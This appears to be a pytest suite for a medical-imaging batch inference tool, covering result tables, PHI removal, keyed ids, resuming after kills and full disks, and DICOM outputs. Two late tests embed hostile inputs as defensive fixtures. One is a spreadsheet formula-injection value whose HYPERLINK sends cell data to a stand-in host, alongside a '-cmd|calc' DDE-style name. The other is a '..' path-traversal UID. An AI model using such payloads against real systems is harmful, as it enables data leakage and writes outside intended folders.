"""Batch inference over an archive: rows per series, reasons, no PHI, resume, kill -9, keyed ids."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
from collections import Counter
from pathlib import Path

import pytest

from medanomaly.deploy.batch import BatchOptions, run_batch
from medanomaly.errors import InputError

NO_DICOM = BatchOptions(dicom=False)  # DICOM outputs cost ~1 s a series: tested once, in the first test


def _rows(out: Path) -> list[dict]:
    with (out / "results.csv").open() as fh:
        return list(csv.DictReader(fh))


def _calls(log: Path) -> Counter:
    return Counter(log.read_text().split()) if log.exists() else Counter()


def test_every_series_gets_a_row_and_every_bad_one_a_reason(small_archive, fake_module, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    out = tmp_path / "out"
    summary = run_batch(fake_module.FakeDetector(), small_archive.root, out, progress=False)
    rows = {r["series_id"]: r for r in _rows(out)}
    for uid in small_archive.good:
        assert rows[uid]["status"] == "done", rows[uid]
        assert int(rows[uid]["n_findings"]) >= 1 and float(rows[uid]["largest_lesion_ml"]) > 0
    for uid in small_archive.bad:
        assert rows[uid]["status"] == "error" and rows[uid]["reason"], rows[uid]
    for uid in small_archive.localizers:
        assert rows[uid]["status"] == "skipped"
    assert summary.counts["done"] == len(small_archive.good) + 1  # + the NIfTI copy
    assert len(rows) == len(_rows(out))  # one row per series
    table = pq.read_table(out / "results.parquet").to_pylist()
    assert sorted(r["series_id"] for r in table) == sorted(rows)
    record = json.loads((out / "series" / f"{small_archive.good[0]}.json").read_text())
    assert record["status"] == "done" and record["prediction"]["findings"]
    dicom = record["dicom"]
    assert set(dicom) == {"seg", "rtstruct", "sr", "parametric_map"} and (out / dicom["seg"]).is_file()
    problems = (out / "problems.csv").read_text()
    assert "RTPLAN" in problems and "SR" in problems and "misc/broken.dcm" in problems
    import re  # the reader's temporary links ("gap of 10 mm between 000003.dcm and 000005.dcm") named no file one has

    for uid in small_archive.bad:
        assert not re.search(r"\b\d{6}\.dcm", rows[uid]["reason"]) and "file " in rows[uid]["reason"], rows[uid]
    named = {r["where"]: r["reason"] for r in csv.DictReader(problems.splitlines()) if r["kind"] == "series"}
    assert set(named) == set(small_archive.bad)
    assert all(re.search(r"[^ ]+/slice_\d{4}\.dcm", reason) for reason in named.values()), named


def test_no_phi_folder_or_file_name_in_results(small_archive, fake_module, tmp_path: Path) -> None:
    from medanomaly.deploy.demo_archive import PHI_FOLDER

    out = tmp_path / "out"
    run_batch(fake_module.FakeDetector(), small_archive.root, out, NO_DICOM, progress=False)
    texts = [(out / "results.csv").read_text(), (out / "results.parquet").read_bytes().decode("latin-1")]
    texts += [p.read_text() for p in (out / "series").glob("*.json")]
    for text in texts:
        assert PHI_FOLDER not in text and "DOE" not in text and "scan.nii" not in text and "study0" not in text


def test_keyed_ids_replace_uids_and_paths(small_archive, fake_module, tmp_path: Path) -> None:
    out = tmp_path / "out"
    run_batch(fake_module.FakeDetector(), small_archive.root, out, NO_DICOM, key=b"a-secret-key-of-16+-bytes",
              progress=False)  # fmt: skip
    text = (out / "results.csv").read_text() + (out / "problems.csv").read_text()
    assert not any(uid in text for uid in small_archive.good)
    assert "misc/" not in text and all(r["series_id"].startswith(("S-", "file-")) for r in _rows(out))


def test_with_a_key_a_reason_names_another_series_by_its_keyed_id_never_its_uid(fake_module, tmp_path: Path) -> None:
    """Two CT series of one study (one chosen for detection, the other "not selected" naming it) and a series over
    the memory limit: with a key, every reason names a series by the id its row shows (it named the raw UID)."""
    import numpy as np

    from medanomaly.io.dicom_writer import write_dicom_series
    from medanomaly.types import Volume

    array = np.full((6, 32, 32), -800, np.float32)
    uids = ["1.2.826.0.1.3680043.8.498.1", "1.2.826.0.1.3680043.8.498.2", "1.2.826.0.1.3680043.8.498.3"]
    for i, (thickness, uid) in enumerate(zip((1.0, 2.0), uids, strict=False)):
        volume = Volume(array, spacing=(0.7, 0.7, thickness), meta={"modality": "CT"})
        write_dicom_series(volume, tmp_path / "a" / f"s{i}", study_uid="1.2.826.0.1.3680043.8.498.9", series_uid=uid)
    big = Volume(np.full((6, 64, 64), -800, np.float32), spacing=(0.7, 0.7, 1.0), meta={"modality": "CT"})
    write_dicom_series(big, tmp_path / "a" / "big", series_uid=uids[2])
    out = tmp_path / "out"
    run_batch(fake_module.FakeDetector(), tmp_path / "a", out, BatchOptions(dicom=False, memory_limit=50_000),
              key=b"a-secret-key-of-16+-bytes", progress=False)  # fmt: skip
    rows = {r["status"]: r for r in _rows(out)}
    assert not any(uid in (out / "results.csv").read_text() for uid in uids)
    assert rows["skipped"]["reason"] == f"not selected: study's detection series is {rows['done']['series_id']}"
    assert rows["refused"]["reason"].startswith(f"series {rows['refused']['series_id']}: needs ~")


def test_rerun_skips_finished_series_and_other_options_redo_them(small_archive, fake_module, tmp_path: Path) -> None:
    out, log = tmp_path / "out", tmp_path / "calls.log"
    model = fake_module.FakeDetector(calls_log=str(log))
    first = run_batch(model, small_archive.root, out, NO_DICOM, progress=False)
    n_calls = sum(_calls(log).values())
    assert n_calls == len(small_archive.good) + 1  # bad series fail while reading: never predicted
    again = run_batch(model, small_archive.root, out, NO_DICOM, progress=False)
    assert sum(_calls(log).values()) == n_calls and again.processed == 0
    assert again.reused == first.counts["done"] + first.counts["error"]
    assert _rows(out) == _rows(out)  # stable
    run_batch(model, small_archive.root, out, BatchOptions(dicom=False, site="chest"), progress=False)
    assert sum(_calls(log).values()) == 2 * n_calls  # other options: every series again
    other_run = fake_module.FakeDetector(calls_log=str(log), version="fake-2")
    run_batch(other_run, small_archive.root, out, BatchOptions(dicom=False, site="chest"), progress=False)
    assert sum(_calls(log).values()) == 3 * n_calls  # another model run: again


def test_a_failing_series_is_reported_and_the_rest_goes_on(small_archive, fake_module, tmp_path: Path) -> None:
    victim = small_archive.good[1]
    out = tmp_path / "out"
    run_batch(fake_module.FakeDetector(fail_on=victim), small_archive.root, out, NO_DICOM, progress=False)
    rows = {r["series_id"]: r for r in _rows(out)}
    assert rows[victim]["status"] == "error" and rows[victim]["reason"] == "RuntimeError: planted model failure"
    assert all(rows[u]["status"] == "done" for u in small_archive.good if u != victim)


def test_memory_limit_and_filters_give_reasons(small_archive, fake_module, tmp_path: Path) -> None:
    out = tmp_path / "out"
    options = BatchOptions(memory_limit=64 * 64 * 8 * 4 - 1, series_filters=("Modality=CT",))
    summary = run_batch(fake_module.FakeDetector(), small_archive.root, out, options, progress=False)
    rows = _rows(out)
    refused = [r for r in rows if r["status"] == "refused"]
    assert len(refused) == len(small_archive.good) + len(small_archive.bad)
    assert all(r["series_id"] in r["reason"] for r in refused)
    assert summary.counts.get("done", 0) == 0
    assert any("filtered out by modality=CT" in r["reason"] for r in rows)  # the NIfTI (no modality)


def test_a_second_batch_on_the_same_folder_is_refused(small_archive, fake_module, tmp_path: Path) -> None:
    from medanomaly.deploy.batch import batch_lock

    out = tmp_path / "out"
    with batch_lock(out), pytest.raises(InputError, match="another batch"):
        run_batch(fake_module.FakeDetector(), small_archive.root, out, progress=False)


_KILL_SCRIPT = """
import importlib.util, sys
spec = importlib.util.spec_from_file_location("deploy_fake_model", sys.argv[1])
mod = importlib.util.module_from_spec(spec); sys.modules["deploy_fake_model"] = mod; spec.loader.exec_module(mod)
from medanomaly.deploy.batch import run_batch
from medanomaly.deploy.batch import BatchOptions
run_batch(mod.FakeDetector(calls_log=sys.argv[4], delay_s=0.4), sys.argv[2], sys.argv[3], BatchOptions(dicom=False),
          progress=False)
"""


def test_kill_9_mid_run_then_rerun_nothing_missing_nothing_twice(small_archive, fake_module, tmp_path: Path) -> None:
    out, log = tmp_path / "out", tmp_path / "calls.log"
    script = tmp_path / "run.py"
    script.write_text(_KILL_SCRIPT)
    proc = subprocess.Popen([sys.executable, str(script), fake_module.__file__, str(small_archive.root), str(out), str(log)])
    deadline = time.time() + 120
    while time.time() < deadline and sum(_calls(log).values()) < 3:
        time.sleep(0.05)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    killed_calls = _calls(log)
    assert 3 <= sum(killed_calls.values()) < len(small_archive.good), "killed too late to test resuming"
    assert not (out / "results.csv").exists()  # the tables come at the end
    run_batch(fake_module.FakeDetector(calls_log=str(log)), small_archive.root, out, NO_DICOM, progress=False)
    rows = _rows(out)
    ids = [r["series_id"] for r in rows]
    assert len(ids) == len(set(ids))  # nothing twice
    by_id = {r["series_id"]: r["status"] for r in rows}
    assert all(by_id[u] == "done" for u in small_archive.good)  # nothing missing
    calls = _calls(log)
    twice = [u for u, n in calls.items() if n > 1]
    assert len(twice) <= 1  # at most the series in flight at the kill was predicted again
    assert set(calls) >= set(small_archive.good)
    assert all(json.loads(p.read_text())["status"] for p in (out / "series").glob("*.json"))


_TERM_SCRIPT = """
import importlib.util, sys
spec = importlib.util.spec_from_file_location("deploy_fake_model", sys.argv[1])
mod = importlib.util.module_from_spec(spec); sys.modules["deploy_fake_model"] = mod; spec.loader.exec_module(mod)
from medanomaly.deploy.batch import BatchOptions, run_batch
from medanomaly.errors import Terminated
if sys.argv[5] == "ray":
    import ray.cloudpickle
    ray.cloudpickle.register_pickle_by_value(mod)  # the test model is not an installed module
try:
    run_batch(mod.FakeDetector(calls_log=sys.argv[4], delay_s=0.4), sys.argv[2], sys.argv[3], BatchOptions(dicom=False),
              progress=False, engine=sys.argv[5], workers=2)
except Terminated as exc:  # as the CLI's main does
    print(exc)
    sys.exit(143)
"""


@pytest.mark.parametrize("engine", ["local", pytest.param("ray", marks=[pytest.mark.ray, pytest.mark.slow])])
def test_sigterm_mid_run_says_how_to_resume_and_the_rerun_finishes(small_archive, fake_module, tmp_path: Path,
                                                                   engine: str) -> None:  # fmt: skip
    """SIGTERM (a scheduler's or a container's stop) ended an archive run at once, without a word (on Ray: a native
    stack dump and exit 15, Ray's own handler): it now ends with one line saying the finished series are kept and how
    to resume (exit 143 from the CLI), and the rerun finishes."""
    out, log = tmp_path / "out", tmp_path / "calls.log"
    script = tmp_path / "run.py"
    script.write_text(_TERM_SCRIPT)
    proc = subprocess.Popen([sys.executable, str(script), fake_module.__file__, str(small_archive.root), str(out),
                             str(log), engine], stdout=subprocess.PIPE, text=True)  # fmt: skip
    deadline = time.time() + 180
    while time.time() < deadline and sum(_calls(log).values()) < 2:
        time.sleep(0.05)
    os.kill(proc.pid, signal.SIGTERM)
    stdout, _ = proc.communicate(timeout=60)
    assert proc.returncode == 143, stdout
    # the last line is ours; on Ray the driver may print raylet lines before it (actors killed at the shutdown)
    assert stdout.strip().splitlines()[-1] == ("terminated (SIGTERM): the series finished so far are kept; run the same "
                                               "command again to resume")  # fmt: skip
    assert engine == "ray" or stdout.strip().count("\n") == 0
    assert sum(_calls(log).values()) < len(small_archive.good), "terminated too late to test resuming"
    assert not (out / "results.csv").exists() and not (out / ".batch.lock").read_text()
    run_batch(fake_module.FakeDetector(), small_archive.root, out, NO_DICOM, progress=False)
    assert all(r["status"] == "done" for r in _rows(out) if r["series_id"] in small_archive.good)


def test_progress_bar_runs_without_a_terminal(tmp_path: Path, fake_module, capsys) -> None:
    from medanomaly.deploy.demo_archive import build_archive

    archive = build_archive(tmp_path / "a", n_series=2, n_corrupt=0, extras=False)
    summary = run_batch(fake_module.FakeDetector(), archive.root, tmp_path / "out", NO_DICOM, progress=True)
    assert summary.counts == {"done": 2}
    assert "series" in capsys.readouterr().out  # rich prints the bar (count, elapsed, ETA)


def test_results_csv_quotes_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
    """Header text from the archive (a Modality of '=HYPERLINK(...)') must not become a live formula."""
    import pyarrow.parquet as pq

    from medanomaly.deploy.results import write_problems, write_tables

    hostile = '=HYPERLINK("http://example.invalid/?q="&A1)'
    write_tables(tmp_path, [{"series_id": "+1.2.3", "modality": hostile, "status": "error", "reason": "@SUM(A1)",
                             "score": -0.5}])  # fmt: skip
    row = _rows(tmp_path)[0]
    assert (row["series_id"], row["modality"], row["reason"]) == ("'+1.2.3", "'" + hostile, "'@SUM(A1)")
    assert row["score"] == "-0.5" and row["status"] == "error"  # numbers and plain text as they were
    assert pq.read_table(tmp_path / "results.parquet").to_pylist()[0]["modality"] == hostile
    problem = type("Problem", (), {"where": "-cmd|calc.dcm", "kind": "file", "reason": "=not DICOM"})()
    with write_problems(tmp_path, [problem]).open() as fh:
        assert next(iter(csv.DictReader(fh))) == {"where": "'-cmd|calc.dcm", "kind": "file", "reason": "'=not DICOM"}


def test_a_series_uid_of_dots_names_no_parent_folder(small_archive, fake_module, tmp_path: Path) -> None:
    """A hostile DICOM whose SeriesInstanceUID is '..' wrote its SEG / SR into the output folder itself (dicom/..);
    its outputs and record now stay in their own folder."""
    import pydicom

    from medanomaly.deploy.results import file_safe

    assert [file_safe(s) for s in ("..", ".", "../x", "1.2.3", "")] == ["__", "_", "___x", "1.2.3", "_"]
    root = tmp_path / "archive"
    series = small_archive.good[0]
    for path in small_archive.root.rglob("*"):
        if path.is_file() and pydicom.dcmread(path, stop_before_pixels=True, force=True).get("SeriesInstanceUID") == series:
            target = root / path.relative_to(small_archive.root)
            target.parent.mkdir(parents=True, exist_ok=True)
            ds = pydicom.dcmread(path)
            ds.SeriesInstanceUID = ".."
            ds.save_as(target)
    out = tmp_path / "out"
    run_batch(fake_module.FakeDetector(), root, out, progress=False)
    assert not (out / "seg.dcm").exists() and not (out / "sr.dcm").exists()
    record = json.loads((out / "series" / "__.json").read_text())
    assert record["status"] == "done" and (out / record["dicom"]["seg"]).parent == out / "dicom" / "__"


def test_a_full_output_disk_stops_the_run_in_one_line_and_a_rerun_resumes(small_archive, fake_module, tmp_path: Path,
                                                                           monkeypatch) -> None:  # fmt: skip
    """A full disk under the output folder was a traceback (OSError from a flush, with no file name, chained twice)
    after the first series that did not fit; every later series would have failed the same way."""
    import errno

    from medanomaly.deploy import atomic

    out, real_write = tmp_path / "out", atomic.atomic_write
    written: list[str] = []

    def full_after_two(path, write, **kw):
        if str(path).endswith(".json") and "series" in Path(path).parts and len(written) >= 2:
            def short(fh):
                raise OSError(errno.ENOSPC, "No space left on device")  # as a flush into a full disk: no file name

            return real_write(path, short, **kw)
        written.append(str(path))
        return real_write(path, write, **kw)

    monkeypatch.setattr(atomic, "atomic_write", full_after_two)
    with pytest.raises(InputError, match=r"output folder is full or not writable \(No space left on device\): "
                                         r"stopped; .* run the same command again to resume"):  # fmt: skip
        run_batch(fake_module.FakeDetector(), small_archive.root, out, NO_DICOM, progress=False)
    assert len(list((out / "series").glob("*.json"))) == 2 and not list(out.rglob(".*.part"))
    monkeypatch.setattr(atomic, "atomic_write", real_write)
    summary = run_batch(fake_module.FakeDetector(), small_archive.root, out, NO_DICOM, progress=False)
    run_batch(fake_module.FakeDetector(), small_archive.root, tmp_path / "clean", NO_DICOM, progress=False)
    assert summary.reused >= 1
    assert sorted((r["series_id"], r["status"]) for r in _rows(out)) == sorted(
        (r["series_id"], r["status"]) for r in _rows(tmp_path / "clean"))


def test_a_failed_handle_write_names_the_file() -> None:
    """A write or flush into a full disk raises an OSError without a file name: the CLI showed it as a traceback."""
    import errno
    import tempfile

    from medanomaly.jsonio import atomic_write

    def short(fh):
        raise OSError(errno.ENOSPC, "No space left on device")

    target = Path(tempfile.mkdtemp()) / "x.json"
    with pytest.raises(OSError) as error:
        atomic_write(target, short)
    assert error.value.filename == str(target) and error.value.errno == errno.ENOSPC


def test_a_series_its_dicom_outputs_cannot_reference_is_an_error_before_the_model_runs(small_archive, fake_module,
                                                                                        tmp_path: Path) -> None:
    """A series without FrameOfReferenceUID: the model ran, then highdicom failed (a ValueError the batch recorded as
    an error after the work). The source is now checked first: the series' error says why and how to predict anyway,
    the model never sees it, and the other series are done as before."""
    import shutil

    import pydicom

    uid = small_archive.good[0]
    root = tmp_path / "archive"
    shutil.copytree(small_archive.root, root, symlinks=True)
    for path in root.rglob("*.dcm"):
        try:
            ds = pydicom.dcmread(path)
        except Exception:  # noqa: BLE001  (the archive's corrupt files)
            continue
        if str(ds.get("SeriesInstanceUID", "")) == uid:
            del ds.FrameOfReferenceUID
            ds.save_as(path, enforce_file_format=False)
    log = tmp_path / "calls.log"
    run_batch(fake_module.FakeDetector(calls_log=str(log)), root, tmp_path / "out", progress=False)
    rows = {r["series_id"]: r for r in _rows(tmp_path / "out")}
    assert rows[uid]["status"] == "error"
    assert rows[uid]["reason"] == ("source image without FrameOfReferenceUID: DICOM SEG/SR outputs need it (--no-dicom "
                                   "predicts without DICOM outputs)")  # fmt: skip
    assert uid not in _calls(log) and all(rows[u]["status"] == "done" for u in small_archive.good[1:])


def test_files_skipped_while_a_series_is_read_are_in_problems_csv_by_their_place(tmp_path: Path, fake_module) -> None:
    """A slice the reader skips (here a copy of a series exported twice, and a truncated copy) was logged under the
    name of its temporary link ("skipped 000004.dcm") and missing from problems.csv, which lists the archive's
    files: now it is there by its place in the archive (a keyed id with a key), and so is the file it copies."""
    import shutil

    from medanomaly.deploy.demo_archive import build_archive

    archive = build_archive(tmp_path / "a", n_series=1, n_corrupt=0, extras=False)
    (series,) = [p for p in archive.root.rglob("*") if p.is_dir() and any(p.glob("*.dcm"))]
    shutil.copytree(series, archive.root / "zz_again")  # walked after the original
    summary = run_batch(fake_module.FakeDetector(), archive.root, tmp_path / "out", NO_DICOM, progress=False)
    assert summary.counts == {"done": 1}
    with open(tmp_path / "out" / "problems.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    n = len(list(series.glob("*.dcm")))
    assert len(rows) == n and summary.n_problems == n
    assert all(r["where"].startswith("zz_again/") and r["reason"].startswith("a copy of ") for r in rows)
    assert all(not r["reason"].split("a copy of ")[1].startswith("zz_again/") for r in rows)  # the one kept
    key = b"a-secret-key-of-16+-bytes"
    run_batch(fake_module.FakeDetector(), archive.root, tmp_path / "keyed", NO_DICOM, key=key, progress=False)
    text = (tmp_path / "keyed" / "problems.csv").read_text()
    assert "zz_again/" not in text and series.name not in text and text.count("F-") == 2 * n


def test_the_readers_log_names_no_temporary_link_and_no_raw_uid_with_a_key(tmp_path: Path, fake_module, caplog) -> None:
    """A truncated slice in an archive's series was logged as "skipped 000003.dcm: truncated ...", the name of a
    temporary link no user has: the console now numbers the file in its series, names the series as the results do
    (a keyed id with a key, never its raw UID) and points to problems.csv, which names the file (keyed here)."""
    import logging

    from medanomaly.deploy.demo_archive import build_archive

    archive = build_archive(tmp_path / "a", n_series=1, n_corrupt=0, extras=False)
    (series,) = [p for p in archive.root.rglob("*") if p.is_dir() and any(p.glob("*.dcm"))]
    slice_file = sorted(series.glob("*.dcm"))[3]
    slice_file.write_bytes(slice_file.read_bytes()[:-4000])
    key = b"a-secret-key-of-16+-bytes"
    with caplog.at_level(logging.WARNING, logger="medanomaly"):
        run_batch(fake_module.FakeDetector(), archive.root, tmp_path / "out", NO_DICOM, key=key, progress=False)
    lines = [r.getMessage() for r in caplog.records if "skipped" in r.getMessage()]
    assert lines and all(".dcm" not in line and "medanomaly-series-" not in line for line in lines), lines
    (row,) = _rows(tmp_path / "out")
    assert any(line.startswith(f"series {row['series_id']}: skipped file 4 of the series: ") for line in lines), lines
    uid = next(iter(archive.good or [""]), "")
    assert not uid or all(uid not in line for line in lines)
    assert slice_file.name not in "".join(lines) and "F-" in (tmp_path / "out" / "problems.csv").read_text()


def test_a_classifiers_call_on_each_series_of_an_archive_is_a_dicom_sr(small_archive, fake_module, tmp_path: Path) -> None:
    """A classifier on an archive wrote no DICOM at all (SEG and SR were for findings): each series' call is an SR of
    the class and its probabilities, which the PACS bridge and the node store as they store a lesion report."""
    from medanomaly.deploy.dicom_call_sr import read_call_sr
    from medanomaly.types import Prediction

    class Classifier(fake_module.FakeDetector):
        def __init__(self) -> None:
            super().__init__()
            self.info = fake_module.FakeInfo(task="classification", class_names=("benign", "malignant"))
            self.task, self.class_names = self.info.task, self.info.class_names

        def predict(self, volume):
            return Prediction(scores=(0.3, 0.7), class_names=self.class_names, label="malignant")

    out = tmp_path / "out"
    run_batch(Classifier(), small_archive.root, out, progress=False)
    for uid in small_archive.good:
        record = json.loads((out / "series" / f"{uid}.json").read_text())
        assert record["status"] == "done" and set(record["dicom"]) == {"sr"}, record
        assert read_call_sr(out / record["dicom"]["sr"]) == {"class": "malignant", "certainty": pytest.approx(0.7),
                                                              "probabilities": {"benign": pytest.approx(0.3),
                                                                                "malignant": pytest.approx(0.7)}}  # fmt: skip
